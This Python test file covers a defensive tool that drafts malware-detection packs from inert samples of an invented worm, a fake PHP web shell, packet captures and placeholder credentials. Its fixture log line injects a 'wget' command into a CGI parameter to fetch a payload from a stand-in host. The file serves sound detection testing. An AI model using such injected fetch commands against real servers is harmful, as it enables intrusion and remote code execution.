import os
import random
from datetime import date
from pathlib import Path

import msgspec.yaml
import pytest

from codered.authoring.drafting import draft_pack
from codered.authoring.goodware import Nothing
from codered.authoring.orders import Draft, DraftOrder, Source
from codered.authoring.placing import place_draft
from codered.model.errors import WrongUse
from codered.model.target import Place
from codered.packs.compiling import compile_packs
from codered.packs.linting import lint_packs
from codered.packs.loading import load_pack
from codered.packs.testing import check_examples
from codered.scan.example_scan import scan_example
from codered.scan.request import ScanRequest
from codered.scan.run import scan
from codered.targets import open_target
from tests.fixtures.capture_files import frame, make_connection, write_pcap

MARKERS = (b"ZorkWorm.spreadOnce", b"/var/tmp/.zorkd/lock", b"Greetings from Zorkland", b"zork_task_runner")
REQUEST = "GET /cgi-bin/zork.cgi?c=wget+http://203.0.113.9/z HTTP/1.1"
LINE = f'198.51.100.9 - - [21/Nov/2026:10:00:00 +0000] "{REQUEST}" 404 1 "-" "-"\n'


class Packaged(Nothing):
    def knows(self, text: bytes) -> bool:
        return text.startswith(b"file md5 ")


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    """Three inert samples and one log line of an invented worm, and clean files that hold one of its strings."""
    bad, clean = tmp_path / "bad", tmp_path / "clean"
    bad.mkdir()
    clean.mkdir()
    for number in range(3):
        noise = random.Random(number).randbytes(3000)
        marks = random.Random(number).sample(MARKERS, len(MARKERS))
        content = (
            noise + b"\0" + b"\0".join(marks) + b"\0printf\0jo@example.org\0" + "Global\\ZorkMutex".encode("utf-16le")
        )
        (bad / f"zorkd-{number}").write_bytes(content + b"\0\0\0")
    (bad / "access.log").write_text(LINE)
    (clean / "tool.bin").write_bytes(b"\0\0zork_task_runner\0 an honest tool")
    (clean / "note.txt").write_text("ZorkWorm is what they call it\n")
    return tmp_path


def draft(evidence: Path, *names: str, clean: bool = True, name: str = "zork") -> Draft:
    sources = tuple(Source(str(evidence / given)) for given in names or ("bad",))
    chosen = (str(evidence / "clean"),) if clean else ()
    order = DraftOrder(name=name, sources=sources, goodware=Nothing(), today=date(2026, 11, 22), clean=chosen)
    return draft_pack(order)


def test_a_draft_lints_tests_and_finds_the_samples_and_not_the_clean_files(evidence: Path, tmp_path: Path) -> None:
    drafted = draft(evidence)
    (tmp_path / "packs").mkdir()
    loaded = load_pack(place_draft(drafted, tmp_path / "packs"))
    assert lint_packs((loaded,)) == ()
    rules = compile_packs((loaded,), None)
    assert check_examples(loaded, lambda example: scan_example(example, rules)) == ()
    for part in ("bad", "clean"):
        place = os.path.realpath(evidence / part)
        target = open_target(scope=(os.fsencode(place),))
        report = scan(target, ScanRequest(places=(Place(part, (place,)),), cores=1), rules)
        found = {(finding.indicator, os.path.basename(finding.subject.path or "")) for finding in report.findings}
        if part == "clean":
            assert found == set()
        else:
            assert {("body", f"zorkd-{n}") for n in range(3)} | {
                ("known-sample", f"zorkd-{n}") for n in range(3)
            } <= found
            assert any(indicator == "request-1" for indicator, _ in found)
    assert "zork_task_runner" not in loaded.rules
    everything = b"".join(drafted.files.values())
    assert b"example.org" not in everything
    assert os.fsencode(evidence) not in everything
    assert {sign.id for sign in loaded.pack.content} == {"body", "in-memory"}
    assert any("note.txt" in choice.why or "clean" in choice.why for choice in drafted.choices)


def test_no_part_of_a_sample_gets_into_the_pack_but_the_strings(evidence: Path) -> None:
    drafted = draft(evidence)
    noise = [random.Random(number).randbytes(3000) for number in range(3)]
    everything = b"".join(drafted.files.values())
    assert not any(piece[at : at + 12].hex().encode() in everything for piece in noise for at in range(0, 2900, 50))


def test_texts_give_a_rule_for_texts(evidence: Path) -> None:
    for number in range(2):
        text = f"<?php die('inert example {number}');\n// Zorkshell by zork crew\n"
        (evidence / f"shell{number}.php").write_text(f"{text}zork_dispatch($zork_key, {number * 77});\n")
    rules = draft(evidence, "shell0.php", "shell1.php", name="zork-shell").files["rules.yar"].decode()
    assert "zork_dispatch" in rules
    assert "rule zork_shell_body" in rules


def test_memory_alone_gives_a_rule_for_memory(evidence: Path) -> None:
    (evidence / "host.vmem").write_bytes(bytes(500) + (evidence / "bad/zorkd-0").read_bytes())
    drafted = draft(evidence, "host.vmem", clean=False)
    assert "examples/hit/running-1.memory.yaml" in drafted.files
    assert "rule zork_body" not in drafted.files["rules.yar"].decode()


@pytest.mark.parametrize("sent", [b"GET /zork/gate.cgi?n=%d HTTP/1.0\r\n\r\n", b"\x01\xfeZORK-HELLO\xee\x02 %d"])
def test_a_capture_gives_behaviour_and_what_is_sent(evidence: Path, sent: bytes) -> None:
    talk = [
        (at, frame(packet))
        for number in range(1, 30)
        for at, packet in make_connection(
            ("198.51.100.7", 1000 + number), (f"203.0.113.{number}", 8081), float(number), sent=[sent % (number * 7)]
        )
    ]
    write_pcap(evidence / "talk.pcap", talk)
    drafted = draft(evidence, "talk.pcap")
    pack = msgspec.yaml.decode(drafted.files["pack.yaml"])
    assert pack["scan_behaviour"]["ports"] == [8081]
    assert pack["scan_behaviour"]["addresses"] == [{"share": 1.0, "within": "sequential"}]
    assert pack["containment"]["block"][0]["ports"] == [8081]
    expected = msgspec.json.decode(drafted.files["expected.json"])
    assert [item["indicator"] for item in expected["hit/sent.traffic.yaml"]] == ["sent-8081"]


def test_what_can_not_be_drafted_is_refused_with_the_reason(evidence: Path) -> None:
    (evidence / "dull.bin").write_bytes(b"\0printf\0malloc\0GetProcAddress\0")
    with pytest.raises(WrongUse, match=r"nothing tells the threat.*every program"):
        draft(evidence, "dull.bin")
    (evidence / "clean/copy").write_bytes((evidence / "bad/zorkd-1").read_bytes())
    with pytest.raises(WrongUse, match="is the same as the sample zorkd-1"):
        draft(evidence)
    order = DraftOrder(
        name="zork", sources=(Source(str(evidence / "bad/zorkd-0")),), goodware=Packaged(), today=date(2026, 11, 22)
    )
    with pytest.raises(WrongUse, match="zorkd-0: is a file of an installed package"):
        draft_pack(order)
    for name in ("Bad Name", "../up", "x" * 41, "-a"):
        with pytest.raises(WrongUse, match="no name for a pack"):
            draft(evidence, name=name)


def test_no_secret_gets_into_any_file_of_a_draft(evidence: Path) -> None:
    jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqbyJ9.c2lnbmF0dXJlMQ"
    secrets = [jwt, "AKIAQ7ZORK3EXAMPLE5X", "ghp_Q7zork3exampleQ7zork3example5abcd", "xoxb-1234567890-zorkex"]
    secrets += ["sk-Q7zork3exampleQ7zork3", "Zm9vYmFyYmF6cXV4MTIz", "0123456789abcdef"]
    asked = f"GET /zork.cgi?c=wget&jwt={jwt}&k={secrets[1]}&g={secrets[2]}&x={secrets[3]}&s={secrets[4]}"
    asked += f"&token={secrets[5]}&PHPSESSID={secrets[6]}"
    agent = f"Zork/1.0 key={secrets[6]}"
    (evidence / "bad/access.log").write_text(
        LINE.replace(REQUEST, f"{asked} HTTP/1.1").replace('"-" "-"', f'"-" "{agent}"')
    )
    held = b"\0".join(f'{name} = "{text}"'.encode() for name, text in zip("abcde", secrets[:5], strict=True))
    held += f'\0token: "{secrets[5]}"\0session_id={secrets[6]}\0'.encode()
    held += f"auth={secrets[5]}".encode("utf-16le") + b"\0\0\0"
    for number in range(3):
        with open(evidence / f"bad/zorkd-{number}", "ab") as file:
            file.write(b"\0" + held)
    os.rename(evidence / "bad/zorkd-2", evidence / f"bad/zork-{secrets[4]}.bin")
    talk = [
        (at, frame(packet))
        for number in range(1, 12)
        for at, packet in make_connection(
            ("198.51.100.7", 1000 + number),
            (f"203.0.113.{number}", 8081),
            float(number),
            sent=[f"{asked} HTTP/1.0\r\n\r\n".encode()],
        )
    ]
    write_pcap(evidence / "bad/talk.pcap", talk)
    drafted = draft(evidence)
    written = {**drafted.files, "choices": repr(drafted.choices).encode()}
    for name, data in written.items():
        for secret in secrets:
            wide = b"".join(bytes((byte, 0)) for byte in secret.encode())
            forms = (secret.encode(), secret.encode().hex().encode(), wide.hex().encode())
            assert not any(form in data for form in forms), (name, secret)
    pack = msgspec.yaml.decode(drafted.files["pack.yaml"])
    assert "&token=[A-Za-z0-9" in pack["logs"][0]["pattern"]
    assert "&token=[A-Za-z0-9" in pack["traffic"][0]["pattern"]
    assert not any(sign["part"] == "agent" for sign in pack["logs"])


def test_a_refusal_says_how_much_of_a_large_file_was_read(evidence: Path) -> None:
    with open(evidence / "huge.bin", "wb") as file:
        file.truncate(40 << 20)
    told: list[str] = []
    order = DraftOrder(
        name="zork", sources=(Source(str(evidence / "huge.bin")),), goodware=Nothing(), today=date(2026, 11, 22)
    )
    with pytest.raises(WrongUse, match=r"nothing tells.*of huge\.bin only 32 MiB of 40 were read"):
        draft_pack(order, told.append)
    assert told[0] == "reading huge.bin"
    assert len(told) == 3


def test_one_sample_alone_is_said_to_be_one(evidence: Path) -> None:
    told = [choice.why for choice in draft(evidence, "bad/zorkd-0").choices if choice.what == "one sample"]
    assert len(told) == 1
    assert "can't be compared" in told[0]
    assert "one sample" not in [choice.what for choice in draft(evidence).choices]
